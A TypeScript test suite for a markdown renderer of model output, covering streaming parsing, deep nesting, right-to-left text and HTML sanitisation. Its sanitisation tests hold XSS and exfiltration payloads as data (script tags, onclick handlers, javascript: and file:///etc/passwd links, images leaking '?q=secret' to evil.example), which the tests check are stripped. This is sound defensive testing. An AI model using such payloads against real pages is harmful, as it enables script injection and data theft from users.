// Markdown: the same in pieces as whole, and nothing of a model's that could act on the reader.

import fc from "fast-check";
import { Tokenizer } from "marked";
import { afterEach, describe, expect, test, vi } from "vitest";

import { grow, NOTHING, whole } from "../src/lib/markdown";
import { show as showIn } from "../src/lib/shown";
import { html, shown as show } from "./html";

const BLOCKS = [
  "A paragraph with *emphasis*, `code` and a [link](https://example.org).",
  "# Heading",
  "A setext heading\n---",
  "- one\n- two\n  - nested\n\n  still in two",
  "1. first\n2. second\n\n   ```sh\n   ls -l\n   ```\n3. third",
  '```rust\nfn main() {\n    println!("hi");\n\n}\n```',
  "~~~\nno language\n~~~",
  "| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 |",
  "> quoted\n> twice\n>\n> and on",
  "---",
  "line one\r\nline two",
  "<details><summary>More</summary>\n\ninside\n\n</details>",
  "- [x] done\n- [ ] open",
  "> [!WARNING]\n> Mind the step.",
  "A claim[^1] and another[^b].\n\n[^1]: One.\n\n    And on.\n\n[^b]: Two\nlines.",
  "    indented code\n    more",
  "Términos, 漢字, עברית and 👩‍💻 in one line.",
];

describe("block by block", () => {
  test("growing_in_any_pieces_ends_as_the_whole", () => {
    const texts = fc
      .array(fc.constantFrom(...BLOCKS), { minLength: 1, maxLength: 8 })
      .map((blocks) => blocks.join("\n\n"));
    fc.assert(
      fc.property(texts, fc.array(fc.integer({ min: 1, max: 30 }), { minLength: 1 }), (text, steps) => {
        let blocks = NOTHING;
        for (let at = 0, n = 0; at < text.length; n++) {
          at = Math.min(at + steps[n % steps.length]!, text.length);
          blocks = grow(blocks, text.slice(0, at));
        }
        expect(html(blocks.blocks)).toEqual(html(whole(text)));
      }),
      { numRuns: 300 },
    );
  });

  test("words_without_a_mark_are_read_as_with_one", () => {
    const words = fc.array(
      fc.constantFrom("One", "two.", "1.", "a:", "é", "(so)", "“x”", "don't", "www.a", "e:/", "", "¿"),
    );
    fc.assert(
      fc.property(words, (words) => {
        const text = words.join(" ");
        expect(html(whole(text))).toEqual(html(whole(`${text}\n\n---`)).slice(0, -1));
      }),
    );
  });

  test("finished_blocks_are_read_no_more", () => {
    const text = Array.from({ length: 50 }, (_, n) => `Paragraph ${n}.`).join("\n\n");
    const blocks = grow(NOTHING, text);
    expect(blocks.frozen).toBe(48);
    expect(text.length - blocks.offset).toBeLessThan(40);
    const longer = grow(blocks, `${text} And more.`);
    expect(longer.blocks.slice(0, 48).every((block, n) => block === blocks.blocks[n])).toBe(true);
    expect(html(longer.blocks).at(-1)).toContain("And more.");
  });
});

describe("a model that babbles", () => {
  const MARKS = ["> ", "- ", "1. ", "[", "![", "(", "*", "_", "`", "|", "~", "#", "=", "a_", "*a _b ", "> - ", "<!--"];
  const babble = MARKS.flatMap((mark) => [mark, `${mark}\n`]);

  afterEach(() => vi.restoreAllMocks());

  test.each(babble)("fifty_thousand_letters_of_%j_are_read_the_same_way_grown_or_whole", (mark) => {
    const text = mark.repeat(Math.ceil(50_000 / mark.length));
    expect(html(grow(NOTHING, text).blocks)).toEqual(html(whole(text)));
  });

  test("a_table_of_too_many_cells_is_the_text_that_it_is_made_of", () => {
    const table = (columns: number, rows: number) =>
      `${"|a".repeat(columns)}|\n${"|-".repeat(columns)}|\n${"|\n".repeat(rows)}`;
    expect(show(table(30, 100)).querySelectorAll("td")).toHaveLength(3_000);
    expect(show(table(1_000, 1_000)).querySelector("table")).toBeNull();
    expect(show(table(1_000, 1_000)).textContent).toContain("|a|a|");
  });

  test("references_that_there_are_not_stay_what_they_are", () => {
    expect(show("&auml; &#228; &notit; &nope; &semi; &amp;auml;").textContent).toBe("ä ä &notit; &nope; ; &auml;");
  });

  test("nesting_ends_at_a_depth_that_a_page_can_show", () => {
    const box = show("> - ".repeat(2_000) + "words");
    expect(box.querySelectorAll("blockquote, ul")).toHaveLength(16);
    expect(box.textContent).toContain("> - words");
  });

  test("nesting_that_people_write_is_kept", () => {
    const box = show("> > 1. one\n> >    - **two *three***");
    expect(box.querySelector("blockquote blockquote ol ul strong em")?.textContent).toBe("three");
  });

  test("a_block_that_fails_is_shown_as_it_is_and_the_others_as_meant", () => {
    const make = document.createElement.bind(document);
    vi.spyOn(document, "createElement").mockImplementation((name: string) => {
      if (name === "ul") throw new RangeError("too deep");
      return make(name);
    });
    const text = "*before*\n\n- a < b\n\n*after*";
    const box = show(text);
    expect([...box.querySelectorAll("em")].map((em) => em.textContent)).toEqual(["before", "after"]);
    expect(box.querySelector("code")?.textContent).toContain("- a < b");
  });

  test("a_text_that_cannot_be_read_is_shown_as_it_is", () => {
    vi.spyOn(Tokenizer.prototype, "heading").mockImplementation(() => {
      throw new RangeError("too deep");
    });
    expect(show("# a <b>").querySelector("code")?.textContent).toBe("# a <b>\n");
    expect(html(grow(NOTHING, "# a <b>").blocks)).toEqual(html(whole("# a <b>")));
  });
});

describe("nothing acts on the reader", () => {
  test.each([
    ["a script", "<script>alert(1)</script>x", "script"],
    ["a handler", '<b onclick="alert(1)">x</b>', "[onclick]"],
    ["a style", '<p style="position:fixed">x</p>', "[style]"],
    ["an id", '<p id="app">x</p>', "[id]"],
    ["a form", '<form action="/x"><input name="a"><button>go</button></form>', "form, input, button:not([data-code])"],
    ["a frame", '<iframe src="https://example.org"></iframe>', "iframe"],
    ["a class of the page's", '<span class="visually-hidden round">x</span>', "[class]"],
    ["a drawing", "<svg><use href='#x'/></svg>", "svg"],
    ["an image from elsewhere", "![gone](https://evil.example/?q=secret)", "img"],
    ["an image without a scheme", "![gone](//evil.example/x.png)", "img"],
    ["a source set", '<img srcset="https://evil.example/x 2x" alt="gone">', "[srcset]"],
  ])("%s is dropped", (_, markdown, selector) => {
    expect(show(markdown).querySelector(selector)).toBeNull();
  });

  test("html_of_the_models_own_keeps_its_tags_and_loses_its_attributes", () => {
    const box = show(
      'Press <kbd style="color:red">Enter</kbd>, H<sub onclick="x()">2</sub>O <!-- not this --> <script>x</script>',
    );
    expect(box.querySelector("kbd")?.textContent).toBe("Enter");
    expect(box.querySelector("sub")?.attributes).toHaveLength(0);
    expect(box.textContent).toBe("Press Enter, H2O  <script>x</script>");
  });

  test.each([
    ["<ul><li>a<li>b<ul><li>c</ul></ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"],
    ["<table><tr><td>a<td>b<tr><td>c</table>", "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>"],
    ["<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"],
    ["<li>a<li>b", "<ul><li>a</li><li>b</li></ul>"],
    ["<dt>a<dd>b", "<dl><dt>a</dt><dd>b</dd></dl>"],
    ["<ul>a <b>b</b><li>c</ul>", "<ul><li>a <b>b</b></li><li>c</li></ul>"],
    ["<dl>a<dt>b<dd>c</dl>", "<dl><dd>a</dd><dt>b</dt><dd>c</dd></dl>"],
    ["<div><h3> </h3>a</div>", "<div>a</div>"],
    ["<div><p>a<p>b<div><p>c</div></div>", "<div><p>a</p><p>b</p><div><p>c</p></div></div>"],
    ['<div><span title="a>b">x</span></div>', "<div><span>x</span></div>"],
    ["x <s-tooltip>hint</s-tooltip>", "<p>x &lt;s-tooltip&gt;hint&lt;/s-tooltip&gt;</p>"],
  ])("%s_is_nested_as_a_browser_nests_it", (markdown, html) => {
    const box = show(markdown);
    for (const boxed of box.querySelectorAll(".table-box")) boxed.replaceWith(...boxed.childNodes);
    for (const node of box.querySelectorAll("*"))
      for (const { name } of [...node.attributes]) node.removeAttribute(name);
    expect(box.innerHTML).toBe(html);
  });

  test.each([
    ['See ![the *chart*](https://example.org/x "t").', "See Image: the chart.", ["https://example.org/x"]],
    ["![](https://example.org/c.png)", "Image", ["https://example.org/c.png"]],
    ["[![](https://example.org/c.png)](https://example.org)", "Image", ["https://example.org"]],
    ["![](/c.png)", "Image", []],
    ["![words](javascript:alert(1))", "words", []],
  ])("of_the_image_%j_stands_a_link_where_one_may_lead_there", (markdown, words, addresses) => {
    const box = show(markdown);
    expect(box.textContent.trim()).toBe(words);
    expect([...box.querySelectorAll("a")].map((link) => link.getAttribute("href"))).toEqual(addresses);
    expect(box.querySelector("img")).toBeNull();
  });

  test.each(["[](https://example.org)", "[ ](https://example.org)", "<a href='https://example.org'> </a>"])(
    "the_link_%j_without_words_shows_where_it_leads",
    (markdown) => {
      expect(show(markdown).querySelector("a[href]")?.textContent.trim()).toBe("https://example.org");
    },
  );

  test("images_in_data_stay_and_a_relative_one_leaves_its_words", () => {
    const box = show("![a](/logo.png) ![b](data:image/png;base64,AAAA)");
    expect([...box.querySelectorAll("img")].map(({ alt }) => alt)).toEqual(["b"]);
    expect(box.textContent).toContain("a");
  });

  test.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x", "/relative", "file:///etc/passwd"])(
    "a link to %s is only words",
    (href) => {
      expect(show(`[words](${href})`).querySelector("[href]")).toBeNull();
      const box = show(`So <a href="${href}">words</a>.`);
      expect(box.querySelector("[href]")).toBeNull();
      expect(box.textContent).toBe("So words.");
    },
  );

  test.each(["https://example.org/", "http://example.org/", "mailto:a@example.org"])(
    "a link to %s opens elsewhere and tells nothing",
    (href) => {
      const written = [
        `[words](${href})`,
        `<a href="${href}">words</a>`,
        `<A class=x HREF=${href} onclick="x()">words</A>`,
      ];
      for (const markdown of written.flatMap((link) => [link, `So ${link}`, `- ${link}`])) {
        const link = show(markdown).querySelector("a")!;
        const attributes = Object.fromEntries([...link.attributes].map(({ name, value }) => [name, value]));
        expect(attributes).toEqual({ href, target: "_blank", rel: "noopener noreferrer" });
        expect(link.textContent).toBe("words");
      }
    },
  );

  test.each([
    ['<a href=" https://e.org/?a&amp;b ">x</a>', "https://e.org/?a&b"],
    [`<a title="href='https://f.org'" href='https://e.org'>x</a>`, "https://e.org"],
    ["<a\nhref=https://e.org href=https://f.org>x</a>", "https://e.org"],
    ['<a name="https://e.org">x</a>', null],
    ["<a data-href=https://e.org>x</a>", null],
    ["<a href>x</a>", null],
    ["<a href=&#106;avascript:alert(1)>x</a>", null],
    ["<a href='java\nscript:alert(1)'>x</a>", null],
    [`<a title=" href=https://e.org">x</a>`, null],
    [`<a href='javascript:"https://e.org"'>x</a>`, null],
  ])("%j_leads_to_%j", (markdown, href) => {
    const links = [...show(`So ${markdown}`).querySelectorAll("a")];
    expect(links.map((link) => link.getAttribute("href"))).toEqual([href]);
  });

  test.each([
    ['<a href="https://e.org">https://f.org</a> y', ["https://e.org https://f.org"]],
    ['<a href="https://e.org">x **[y](https://f.org)**</a>', ["https://e.org x y"]],
    ['[x <a href="https://f.org">y</a> z](https://e.org)', ["https://e.org x y z"]],
    ['<a href="https://e.org">x <b><a href="https://f.org">y</a>', ["https://e.org x ", "https://f.org y"]],
  ])("no_link_is_within_another_in_%j", (markdown, found) => {
    const links = [...show(`So ${markdown}`).querySelectorAll("a")];
    expect(links.map((link) => `${link.getAttribute("href")} ${link.textContent}`)).toEqual(found);
  });
});

describe("how it looks", () => {
  test("code_has_its_language_above_it_and_can_be_copied_as_it_was", () => {
    const box = show('```rust\nlet a = "<b>";\n```');
    expect(box.querySelector("code")?.textContent).toBe('let a = "<b>";\n');
    expect(box.querySelector('[data-code="copy"]')).not.toBeNull();
    expect(box.querySelector(".code-head .language")?.textContent).toBe("rust");
  });

  test("words_find_their_own_direction_and_code_does_not", () => {
    const box = show("שלום\n\n```\ncode\n```");
    expect(box.querySelector("p")?.getAttribute("dir")).toBe("auto");
    expect(box.querySelector("pre")?.getAttribute("dir")).toBe("ltr");
  });

  test.each([
    ["1. Docker هو أداة لتشغيل الحاويات\n2. Kubernetes يدير الحاويات", "ol"],
    ["- `npm install` يثبت الحزم\n- <b>x</b> شيء آخر", "ul"],
    ["> REST اقتباس من الوثائق", "blockquote"],
    ["| API | الوصف |\n|---|---|\n| GET | يقرأ الموارد من الخادم |", "table"],
    ["# GPT נותן תשובות", ":is(h3, h4)"],
    ["Docker הוא כלי להרצת מכולות", "p"],
    ["`docker run` يشغل حاوية", "p"],
    ["| Docker هو أداة |\n|---|\n| x |", "th"],
    ["1. Docker هو أداة\n\n2. Kubernetes يدير الحاويات", "li > p"],
    ["1. Docker هو أداة\n2. Kubernetes يدير الحاويات", "li"],
    ["<ul><li>Docker هو أداة لتشغيل</li></ul>", "li"],
    ["<blockquote>REST اقتباس من الوثائق</blockquote>", "blockquote"],
  ])("%j_goes_as_most_of_its_letters_go_and_not_as_its_first_word", (markdown, selector) => {
    expect(show(markdown).querySelector<HTMLElement>(selector)?.dir).toBe("rtl");
    let read = NOTHING;
    const box = document.createElement("div");
    for (let end = 1; end <= markdown.length; end++) {
      read = grow(read, markdown.slice(0, end));
      for (const block of read.blocks.slice(0, 1)) showIn(box, block, undefined);
    }
    expect(box.innerHTML).toBe(show(markdown).innerHTML);
  });

  test.each([
    ["שלום is a Hebrew word, and it means peace", "p"],
    ["- שלום is a Hebrew word, and it means peace", "ul"],
    ["> שלום is a Hebrew word, and it means peace", "blockquote"],
    ["> Words\n>\n> ```\n> שלום עולם שלום עולם\n> ```", "blockquote"],
  ])("%j_goes_left_to_right_though_it_names_another_language", (markdown, selector) => {
    expect(show(markdown).querySelector<HTMLElement>(selector)?.dir).toBe("ltr");
  });

  test("a_table_scrolls_in_its_own_box", () => {
    expect(show("| a |\n|---|\n| 1 |").querySelector(".table-box > table")).not.toBeNull();
  });
});
